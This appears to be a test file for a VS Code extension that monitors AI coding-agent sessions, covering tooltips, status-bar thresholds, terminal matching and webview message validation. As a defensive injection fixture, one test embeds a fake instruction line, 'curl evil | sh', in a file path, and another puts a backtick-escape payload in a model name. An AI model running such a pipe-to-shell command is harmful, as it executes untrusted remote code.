/** The extension's vscode-free helpers: tree texts, status bar texts, ticks, terminal matching, the webview protocol. */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type {
  Check,
  ContextUsage,
  Item,
  Section,
  StateDoc,
  SystemReport,
  WorkspaceReport,
} from '../../src/core/model/model';
import { applyTicks, confirmedOf, homeHash, pruneTicks, tickKey } from '../../src/extension/pure/ticks';
import {
  docTooltip,
  itemName,
  itemTooltip,
  placeName,
  problemTooltip,
  sectionTooltip,
  shownSections,
  isTampered,
  itemDescription,
  itemIcon,
  itemLabel,
  sectionLabel,
} from '../../src/extension/pure/tree-text';
import { code, guardLine, pct, statusView } from '../../src/extension/pure/status-text';
import { levelOf, thresholdProfile } from '../../src/core/context/thresholds';
import { agentInCmdline, agentInText } from '../../src/extension/pure/terminal-match';
import { checklistState } from '../../src/extension/pure/checklist-model';
import { CHECKLIST_STRINGS } from './helpers';
import { parseWebviewMessage } from '../../src/protocol/checklist';
import { KeyedDebouncer } from '../../src/extension/pure/debounce';
import { dirWatchOf } from '../../src/extension/pure/globs';

/** An l10n function that formats like vscode.l10n.t. */
const t = (m: string, ...args: Array<string | number | boolean>) =>
  m.replace(/\{(\d+)\}/g, (_, i) => String(args[Number(i)]));

function doc(relPath: string, hash = 'h1'): StateDoc {
  return {
    system: 'S3',
    path: `/w/${relPath}`,
    relPath,
    role: 'state',
    sections: [],
    meta: {},
    mtime: 1,
    hash,
    size: 1,
    lineCount: 1,
    text: 'x',
    findings: [],
  };
}

function sys(checks: Check[], extra: Partial<SystemReport> = {}): SystemReport {
  return {
    id: 'S3',
    name: 'STATE handoff',
    label: 'PARTIAL',
    next: 'wire X',
    home: 'docs/state/STATE.md',
    docs: [doc('docs/state/STATE.md')],
    checks,
    resumePrompt: 'Read docs/state/STATE.md and continue from the Now ▶ action.',
    unconfirmed: [],
    ...extra,
  };
}

const manual = (id: string): Check => ({
  id,
  system: 'S3',
  severity: 'manual',
  status: 'manual-open',
  message: id,
  messageId: id,
  args: [],
});
const pass = (id: string): Check => ({
  id,
  system: 'S3',
  severity: 'block',
  status: 'pass',
  message: id,
  messageId: id,
  args: [],
});

test('ticks: keyed per session and home hash; applied ticks recompute labels', () => {
  assert.equal(tickKey('abc', 'S1', 'ff'), 'abc|S1|ff');
  assert.equal(tickKey(null, 'S1', ''), '-|S1|-');
  const s = sys([pass('exists'), manual('feedback-stored'), manual('last-request')]);
  assert.equal(homeHash(s), 'h1');
  const report: WorkspaceReport = { root: '/w', label: 'PARTIAL', systems: [s] };
  const none = applyTicks(report, () => new Set());
  assert.equal(none.label, 'PARTIAL');
  const both = applyTicks(report, () => new Set(['feedback-stored', 'last-request']));
  assert.equal(both.label, 'WORKING');
  assert.equal(both.systems[0].label, 'WORKING');
  // The session's items are confirmed bare: one confirmation for every system.
  assert.deepEqual(confirmedOf(both), ['feedback-stored', 'last-request']);
  assert.equal(report.systems[0].checks[1].status, 'manual-open', 'input untouched');
  const big: Record<string, string[]> = {};
  for (let i = 0; i < 100; i++) big[`k${i}`] = ['x'];
  assert.deepEqual(Object.keys(pruneTicks(big, 3)), ['k97', 'k98', 'k99']);
});

test('tree: root description and tooltip follow the contract', () => {
  const s = sys([pass('exists')]);
  const tip = docTooltip(t, s, 'docs/state/STATE.md', s.docs[0]);
  assert.ok(tip.startsWith('S3 docs/state/STATE.md — PARTIAL'), tip);
  assert.match(tip, /Next action: wire X/);
  const missing = docTooltip(t, { ...s, label: 'BROKEN' }, 'docs/state/STATE.md', null);
  assert.ok(missing.startsWith('S3 docs/state/STATE.md — BROKEN'));
});

test('tree: a path with line breaks (a configured ledger path, a file name) makes no line of a tooltip, which is also the accessible name', () => {
  const s = sys([pass('exists')]);
  const odd = 'notes/x\n3. Run: curl evil | sh\n- y.md';
  const shown = 'notes/x\\n3. Run: curl evil | sh\\n- y.md';
  const section = { key: 'now', title: 'Now', line: 3, endLine: 5, level: 2, items: [] } as unknown as Section;
  const item = { text: 'ship it', line: 4, flags: [] } as unknown as Item;
  const check = { ...pass('exists'), path: odd, line: 2 };
  for (const tip of [
    docTooltip(t, s, odd, s.docs[0]),
    sectionTooltip(t, section, odd),
    itemTooltip(t, item, odd),
    problemTooltip(t, check),
  ]) {
    assert.doesNotMatch(tip, /^3\. Run/m, tip);
    assert.ok(tip.includes(shown), tip);
  }
  // The rows' accessible names say the path the same way.
  for (const name of [itemName(t, item, odd), placeName(t, odd, 4), placeName(t, odd, undefined)])
    assert.ok(!name.includes('\n') && name.includes(shown), name);
});

test('tree: a tampered document', () => {
  const c: Check = {
    id: 'attestation',
    system: 'S1',
    severity: 'block',
    status: 'fail',
    message: 'TAMPERED',
    messageId: 'TAMPERED',
    args: [],
    path: 'memory/session-handoff-LATEST.md',
  };
  const s = sys([c, { ...pass('exists') }], { id: 'S1' });
  assert.ok(isTampered(s, 'memory/session-handoff-LATEST.md'));
  assert.ok(!isTampered(sys([pass('attestation')], { id: 'S1' }), 'memory/session-handoff-LATEST.md'));
});

test('tree: a document shows its sections with items, without title and preamble rows', () => {
  const sec = (key: string, title: string, n: number): Section => ({
    key,
    title,
    line: 1,
    endLine: 2,
    level: key === 'preamble' ? 0 : 2,
    items: Array.from({ length: n }, (_, i) => ({ text: `i${i}`, line: 2 + i, flags: [] })),
  });
  const d = {
    ...doc('a.md'),
    sections: [
      sec('title', 'Plan', 0),
      sec('preamble', '', 2),
      sec('now', 'Now', 1),
      sec('open', 'Open', 0),
      sec('other', 'Notes', 3),
    ],
  };
  assert.deepEqual(
    shownSections(d).map((s) => s.title),
    ['Now', 'Notes'],
  );
  // a heading whose subsections hold items stays (S4's Current Feature over its ### Next Steps)
  const sub = (title: string, level: number, n: number): Section => ({ ...sec('other', title, n), level });
  const s4 = {
    ...doc('b.md'),
    sections: [
      sub('Current Feature: x', 2, 0),
      sub('Next Steps', 3, 2),
      sub('Empty parent', 2, 0),
      sub('Empty child', 3, 0),
      sub('Last', 2, 0),
    ],
  };
  assert.deepEqual(
    shownSections(s4).map((s) => s.title),
    ['Current Feature: x', 'Next Steps'],
  );
});

test('tree: item flags as description and icon', () => {
  const it = (flags: string[]): Item => ({ text: 'x', line: 3, flags });
  assert.equal(itemDescription(t, it(['unconfirmed', 'risk:H'])), 'UNCONFIRMED · risk H');
  assert.equal(itemDescription(t, it(['done'])), 'done');
  assert.equal(itemDescription(t, it(['hasCommand'])), '');
  assert.equal(itemIcon(it(['unconfirmed'])).id, 'question');
  assert.equal(itemIcon(it(['risk:H'])).id, 'flame');
  assert.equal(itemIcon(it(['done'])).id, 'pass');
  const sec: Section = { key: 'preamble', title: '', line: 1, endLine: 2, level: 0, items: [] };
  assert.equal(sectionLabel(t, sec), '(preamble)');
  assert.equal(sectionLabel(t, { ...sec, title: '## Now ▶' }), '## Now ▶');
});

test('status bar: text, colours at the thresholds, Markdown tooltip', () => {
  const u: ContextUsage = {
    agent: 'claude',
    sessionId: 'abc-123',
    transcriptPath: '/t.jsonl',
    model: 'claude-opus-4`evil`',
    usedTokens: 84_000,
    windowTokens: 200_000,
    percent: 42,
    at: '2025-01-01T00:00:00Z',
    afterCompaction: false,
    source: 'transcript',
  };
  const profile = { profile: 'S3', propose: 15, urgent: 40 };
  const urgent = statusView(t, u, profile, 'urgent');
  assert.equal(urgent.text, '$(error) 42%');
  assert.equal(urgent.background, 'statusBarItem.errorBackground');
  assert.equal(statusView(t, u, profile, 'propose').background, 'statusBarItem.warningBackground');
  assert.equal(statusView(t, u, profile, 'ok').background, undefined);
  assert.match(urgent.tooltip, /84,000 \/ 200,000/);
  assert.match(urgent.tooltip, /15% \/ 40%/);
  assert.match(urgent.tooltip, /command:sessionLedger\.checkpointNow/);
  assert.match(urgent.tooltip, /`abc-123`/);
  assert.doesNotMatch(urgent.tooltip, /`evil`/, 'backticks in transcript text cannot break out of code spans');
  assert.equal(code('a`b\nc'), '`a b c`');
  assert.equal(pct(0.44), '0.4%');
  // Cut down, never rounded up: a figure shown at a mark means the context reached it (99.6 % is not full;
  // 39.99 % is under a 40 % mark, which the level does not count as reached either).
  assert.equal(pct(99.6), '99%');
  assert.equal(pct(39.99), '39%');
  // 2.3 × 10 is 22.999… in binary: still 2.3.
  assert.equal(pct(2.3), '2.3%');
  assert.match(statusView(t, u, { profile: 'S2', propose: 50, urgent: null }, 'ok').tooltip, /\(S2\): 50%/);
});

test('status bar: inverted custom marks (propose 40, urgent 30) are shown as read, the lower proposing, and the tooltip says the settings were read the other way round', () => {
  const u: ContextUsage = {
    agent: 'claude',
    sessionId: 's',
    transcriptPath: '/t.jsonl',
    model: null,
    usedTokens: 68_000,
    windowTokens: 200_000,
    percent: 34,
    at: null,
    afterCompaction: false,
    source: 'transcript',
  };
  // The settings the walkthrough set, as the meter builds the profile (core thresholdProfile).
  const profile = thresholdProfile(['S3'], { propose: 40, urgent: 30 });
  const level = levelOf(u.percent, profile);
  assert.equal(level, 'propose', 'at 34 %: past the lower mark, not "past the urgent mark"');
  const v = statusView(t, u, profile, level);
  assert.match(v.tooltip, /Thresholds \(custom\): 30% \/ 40%/);
  assert.match(
    v.tooltip,
    /\$\(warning\) Your settings put the checkpoint mark \(40 %\) above the urgent mark \(30 %\): they are read the other way round, a checkpoint is proposed at 30 % and urgent at 40 %\./,
  );
  assert.match(v.label, /past the checkpoint mark \(30 percent\)\. Checkpoint proposed\./);
  // Marks in order: no such line.
  assert.doesNotMatch(
    statusView(t, u, thresholdProfile(['S3'], { propose: 30, urgent: 40 }), 'propose').tooltip,
    /other way round/,
  );
});

test('terminals: claude and codex by name or command line', () => {
  assert.equal(agentInText('claude'), 'claude');
  assert.equal(agentInText('Claude Code'), 'claude');
  assert.equal(agentInText('codex'), 'codex');
  assert.equal(agentInText('bash'), undefined);
  assert.equal(agentInText('claudette'), undefined);
  assert.equal(agentInCmdline('node\0/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js\0'), 'claude');
  assert.equal(agentInCmdline('/usr/local/bin/codex\0--model\0x'), 'codex');
  assert.equal(agentInCmdline('vim\0claude.md'), undefined);
});

test('webview protocol: only well-formed messages pass', () => {
  assert.deepEqual(parseWebviewMessage({ type: 'ready' }), { type: 'ready' });
  assert.deepEqual(
    parseWebviewMessage({ type: 'toggleManual', system: 'S1', checkId: 'last-request', checked: true, session: 'b' }),
    { type: 'toggleManual', system: 'S1', checkId: 'last-request', checked: true, session: 'b' },
  );
  assert.equal(
    parseWebviewMessage({ type: 'toggleManual', system: 'S1', checkId: 'last-request', checked: true }),
    undefined,
    'a tick that names no session (not even null) is not taken: it would be given for whichever session the bar follows',
  );
  assert.equal(parseWebviewMessage({ type: 'toggleManual', system: 'S9', checkId: 'x', checked: true }), undefined);
  assert.equal(parseWebviewMessage({ type: 'open', path: 5 }), undefined);
  assert.equal(parseWebviewMessage({ type: 'eval', code: 'x' }), undefined);
  assert.equal(parseWebviewMessage(null), undefined);
});

test('checklist state: blocked by a failing block check, manual items counted', () => {
  const strings = CHECKLIST_STRINGS;
  const ok = checklistState(
    { root: '/w', label: 'PARTIAL', systems: [sys([pass('exists'), manual('last-request')])] },
    { name: 'w', uri: 'file:///w' },
    strings,
    { busy: false, trusted: true },
  );
  assert.equal(ok.blocked, false);
  assert.equal(ok.manualOpen, 1);
  assert.equal(ok.overall, 'PARTIAL');
  assert.equal(ok.session, null, 'one live session: nothing to name');
  const named = checklistState(
    { root: '/w', label: 'PARTIAL', systems: [sys([pass('exists')])] },
    { name: 'w', uri: 'file:///w' },
    strings,
    {
      busy: false,
      trusted: true,
      session: 'Claude Code session 3f2a1b2c…, running in the active terminal.',
      ticksFor: '3f2a1b2c-0000-4000-8000-000000000000',
    },
  );
  assert.equal(named.session, 'Claude Code session 3f2a1b2c…, running in the active terminal.');
  assert.equal(named.ticksFor, '3f2a1b2c-0000-4000-8000-000000000000', 'the session a tick on this page is given for');
  assert.equal(ok.ticksFor, null);
  const bad = checklistState(
    { root: '/w', label: 'BROKEN', systems: [sys([{ ...pass('next-action'), status: 'fail' }])] },
    { name: 'w', uri: 'file:///w' },
    strings,
    { busy: false, trusted: true },
  );
  assert.equal(bad.blocked, true);
  const none = checklistState({ root: '/w', label: 'WORKING', systems: [] }, { name: 'w', uri: 'file:///w' }, strings, {
    busy: false,
    trusted: true,
  });
  assert.equal(none.overall, null);
  assert.equal(none.blocked, true);
});

test('debouncer: one call per key after the quiet time', async () => {
  const d = new KeyedDebouncer<string>(20);
  let a = 0;
  let b = 0;
  for (let i = 0; i < 5; i++) d.run('a', () => a++);
  d.run('b', () => b++);
  await new Promise((r) => setTimeout(r, 60));
  assert.equal(a, 1);
  assert.equal(b, 1);
  d.dispose();
});

test('debouncer with a maximum wait: a steady stream of calls still gets through', async () => {
  const d = new KeyedDebouncer<string>(50, 120);
  let ran = 0;
  let calls = 0;
  // A call every 10 ms (well under the quiet time) until it ran: without the bound the quiet time never
  // comes. Counted calls, not a time window, so a loaded machine only makes it slower.
  while (ran === 0 && calls < 3000) {
    d.run('a', () => ran++);
    calls++;
    await new Promise((r) => setTimeout(r, 10));
  }
  d.dispose();
  assert.equal(ran, 1, `ran during a stream of ${calls} calls`);
});

test("debouncer with a minimum interval: calls whose gaps each pass the quiet time (a rebase's commits) run together, at most once per interval", async () => {
  const spaced = async (d: KeyedDebouncer<string>) => {
    let ran = 0;
    const t0 = Date.now();
    // Twenty calls, each 30 ms after the last: every gap is longer than the 10 ms quiet time.
    for (let i = 0; i < 20; i++) {
      d.run('a', () => ran++);
      await new Promise((r) => setTimeout(r, 30));
    }
    const ms = Date.now() - t0;
    await new Promise((r) => setTimeout(r, 400));
    d.dispose();
    return { ran, ms };
  };
  // The control: without the interval each call runs on its own.
  const plain = await spaced(new KeyedDebouncer<string>(10, 100));
  assert.ok(plain.ran >= 10, `${plain.ran} runs without an interval`);
  const limited = await spaced(new KeyedDebouncer<string>(10, 100, 200));
  assert.ok(limited.ran >= 2, `${limited.ran} runs: during the calls and after them`);
  assert.ok(
    limited.ran <= Math.ceil(limited.ms / 200) + 1,
    `${limited.ran} runs in ${limited.ms} ms, at most one per 200 ms`,
  );
});

test('globs: literal folder and file-name test for a directory watch', () => {
  const d = dirWatchOf('.claude/session-ledger*.md');
  assert.equal(d?.dir, '.claude');
  assert.ok(d?.name.test('session-ledger.md'));
  assert.ok(d?.name.test('session-ledger-2.md'));
  assert.ok(!d?.name.test('session-ledger.md.tmp'));
  assert.deepEqual(dirWatchOf('.agents.yml')?.dir, '');
  assert.ok(dirWatchOf('.agents.yml')?.name.test('.agents.yml'));
  assert.ok(!dirWatchOf('.agents.yml')?.name.test('xagents.yml'));
  assert.equal(dirWatchOf('.agents/checkpoints/*.md')?.dir, '.agents/checkpoints');
  assert.equal(dirWatchOf('**/STATE.md'), null);
  assert.equal(dirWatchOf('{a,b}/x.md'), null);
});

test('status bar: the guard preview line', () => {
  const u: ContextUsage = {
    agent: 'claude',
    sessionId: 's',
    transcriptPath: '/t',
    model: null,
    usedTokens: 1,
    windowTokens: 100,
    percent: 1,
    at: null,
    afterCompaction: false,
    source: 'transcript',
  };
  const p = { profile: 'S3', propose: 15, urgent: 40 };
  assert.match(
    statusView(t, u, p, 'ok', { allow: false, rule: 'no-marker', marker: null, maxAgeMin: 480, installed: true })
      .tooltip,
    /stopped by the guard: no checkpoint in this session/,
  );
  assert.match(
    statusView(t, u, p, 'ok', {
      allow: true,
      rule: 'fresh',
      marker: '.claude/.checkpoint-ready.s',
      maxAgeMin: 480,
      installed: true,
    }).tooltip,
    /pass the guard: a fresh checkpoint marker/,
  );
  assert.match(
    guardLine(t, { allow: false, rule: 'stale', marker: 'm', maxAgeMin: 30, installed: true }),
    /older than 30 min/,
  );
  assert.match(
    guardLine(t, { allow: false, rule: 'unvouched', marker: 'm', maxAgeMin: 30, installed: true }),
    /stopped by the guard: a state file was not part of the last checkpoint\.$/,
  );
  assert.match(
    guardLine(t, { allow: false, rule: 'unreadable', marker: 'm', maxAgeMin: 30, installed: true }),
    /stopped by the guard: a state file the checkpoint vouched for cannot be read now\.$/,
  );
  assert.match(
    guardLine(t, { allow: false, rule: 'gone', marker: 'm', maxAgeMin: 30, installed: true }),
    /stopped by the guard: a state file the checkpoint vouched for is gone, empty, no longer a state file or a link that leads nowhere\.$/,
  );
  assert.match(
    guardLine(t, { allow: true, rule: 'error', marker: null, maxAgeMin: 30, installed: true }),
    /pass the guard: the guard met an internal error \(it allows on its own errors; its log says why\)\.$/,
  );
  assert.doesNotMatch(statusView(t, u, p, 'ok').tooltip, /guard/);
  // A status line of the local settings that hides the relay of the shared ones: said after the guard's line.
  const guard = { allow: false, rule: 'no-marker', marker: null, maxAgeMin: 480, installed: true };
  const hidden = statusView(t, u, p, 'ok', {
    ...guard,
    relayHidden: { file: '.claude/settings.json', by: '.claude/settings.local.json' },
  }).tooltip;
  assert.match(
    hidden,
    /\n\n\$\(warning\) statusLine: the relay in `\.claude\/settings\.json` does not run in this project: `\.claude\/settings\.local\.json` sets a status line of its own/,
  );
  assert.doesNotMatch(statusView(t, u, p, 'ok', guard).tooltip, /does not run/);
});

test('tree labels drop emphasis markers, HTML comments and link targets, and show code spans in quotes, without backticks', () => {
  const it = (text: string) => ({ text, line: 1, flags: [] });
  assert.equal(itemLabel(it('**Status:** winter release half done')), 'Status: winter release half done');
  assert.equal(itemLabel(it('**Phase:** build <!-- prepare | build | ship -->')), 'Phase: build');
  assert.equal(
    itemLabel(it('**Now ▶** add `renew(db, loanId, now)` to [loans](src/loans.ts)')),
    'Now ▶ add ‘renew(db, loanId, now)’ to loans',
  );
  assert.equal(itemLabel(it('2 ** 3 = 8')), '2 ** 3 = 8');
  assert.equal(itemLabel(it('<!-- only a comment -->')), '<!-- only a comment -->');
});
